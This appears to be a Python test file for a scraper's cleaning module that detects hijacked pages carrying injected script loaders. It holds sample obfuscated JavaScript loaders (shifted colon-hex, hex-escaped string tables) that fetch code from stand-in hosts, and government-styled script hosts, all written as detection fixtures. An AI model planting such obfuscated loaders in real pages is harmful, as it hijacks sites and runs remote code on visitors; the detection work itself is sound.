"""Loaders that carry only a script (v18 §2): their code is read once decoded, and judged by what it
does — it loads code from a host nothing else of the page names, or its <script src> host dresses
as a government, a school or the page's own site inside another domain."""
from __future__ import annotations

from scraper.clean import clean_page
from scraper.clean.loaders import MIN_COLON_HEX, colon_hex, decode_script
from tests.clean.conftest import kinds
from tests.clean.test_structural import URL, page

LOADER = ("function q(){var s=document.createElement('script');s.src='//cdn.brookvale-t.com/q.js';"
          "document.head.appendChild(s)}q();")


def _colon_hex(code: str, shift: int) -> str:
    return ":".join(f"{ord(c) - shift:x}" for c in code)


def test_colon_hex_shifted_payload_is_decoded_to_its_code():
    d = decode_script(f'a=document;try{{--(a["body"])}}catch(e){{v="{_colon_hex(LOADER, 8)}";}}')
    assert "shifted_codes" in d.techniques
    assert "cdn.brookvale-t.com/q.js" in d.text


def test_a_payload_of_exactly_the_shortest_length_is_read_as_one():
    # MIN_COLON_HEX values are joined by one colon fewer
    payload = _colon_hex("document.title='ok';".ljust(MIN_COLON_HEX), 8)
    assert colon_hex(f'v="{payload}";')
    assert not colon_hex(f'v="{payload.rsplit(":", 1)[0]}";')


def test_colon_hex_loader_flags_the_page_and_keeps_the_article():
    script = f'<script>a=document;try{{--(a["body"])}}catch(e){{if(1){{v="{_colon_hex(LOADER, 7)}";}}}}</script>'
    a = clean_page(page(top=script), url=URL)
    assert a.hijacked, a.findings
    assert "spam_script" in kinds(a)
    assert "城乡环境综合整治是一项民心工程" in a.text


def test_hex_escaped_table_of_a_script_loader_flags_the_page():
    parts = ["createElement", "script", "//edu.brookvale-t.net/c.js", "appendChild"]
    table = ",".join('"' + "".join(f"\\x{ord(c):02X}" for c in p) + '"' for p in parts)
    a = clean_page(page(head=f'<script type="text/javascript">var _0x1f2e=[{table}];</script>'), url=URL)
    assert a.hijacked, a.findings
    assert "城乡环境综合整治是一项民心工程" in a.text


def test_script_src_dressed_as_a_government_host_flags_the_page():
    a = clean_page(page(head='<script src="https://gov.brookvale-t.com/jq.min.js"></script>'), url=URL)
    assert a.hijacked, a.findings
    assert "spam_script" in kinds(a)


def test_ordinary_external_scripts_and_colon_lists_stay_harmless():
    head = ('<script src="https://cdn.jsdelivr.net/npm/jquery@3/dist/jquery.min.js"></script>'
            '<script src="https://static.brookvale-t.com/widget.js"></script>'
            # a vendor's account named after the site, a vendor whose own name is about governments
            '<script src="https://qingshan.us.brookvale-ads.com/front.js"></script>'
            '<script src="https://gov.govreader-t.cn/dist/aria.js?appid=1f2e"></script>'
            '<script>var mac="' + ":".join(["0a"] * 60) + '";var t="12:30";</script>')
    a = clean_page(page(head=head), url=URL)
    assert not a.hijacked, a.findings
